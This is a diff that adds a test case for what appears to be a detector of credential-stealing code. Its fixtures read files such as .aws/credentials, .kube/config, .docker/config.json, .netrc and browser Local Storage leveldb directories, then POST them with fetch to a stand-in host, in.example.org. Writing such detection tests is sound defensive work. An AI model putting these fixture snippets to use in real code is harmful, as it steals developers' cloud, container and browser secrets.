@@ -129,3 +129,22 @@ test('the keys of a cloud are low in a large script that signs requests to it, a
   assert.equal(client('".kube", "config"', 'AWS4-HMAC-SHA256', 8_000), 'medium', 'of another trade');
   assert.equal(client('".ssh", "id_rsa"', 'AWS4-HMAC-SHA256', 8_000), 'high');
 });
+
+test('files of several trades, and pieces of stores, that a script reads for another one which sends', () => {
+  const paths = ['.aws/credentials', '.kube/config', '.docker/config.json', '.netrc'];
+  const files = (names: readonly string[], reader: string, sender: string) => findingsOf(rule, {
+    'index.js': 'const found = require("./lib/found")(); if (found.length > 0) require("./lib/send")(found)',
+    'lib/found.js': `const fs = require("fs"), os = require("os"), path = require("path"); module.exports = () => ${JSON.stringify(names)}.map((each) => ${reader})`,
+    'lib/send.js': sender,
+  })[0]?.severity ?? 'nothing';
+  const send = 'module.exports = (all) => fetch("https://in.example.org/", { method: "POST", body: JSON.stringify(all) })';
+  const read = 'fs.readFileSync(path.join(os.homedir(), each), "utf8")';
+  assert.equal(files(paths, read, send), 'high');
+  assert.equal(files(paths, 'each', send), 'medium', 'a list of what is not to be touched');
+  assert.equal(files(paths, read, 'module.exports = (all) => console.table(all)'), 'medium');
+  assert.equal(files(paths.slice(0, 1), read, send), 'medium', 'a client of one trade');
+  const store = 'const fs = require("fs"), path = require("path"); const tail = ["Local Storage", "level" + "db"]; module.exports = (name) => fs.readdirSync(path.join(base, name, ...tail))';
+  const stores = (sender: string) => findingsOf(rule, { 'index.js': 'require("./send")(require("./store")("x"))', 'store.js': store, 'send.js': sender })[0]?.severity ?? 'nothing';
+  assert.equal(stores(send), 'high');
+  assert.equal(stores('module.exports = (all) => console.log(all)'), 'low');
+});
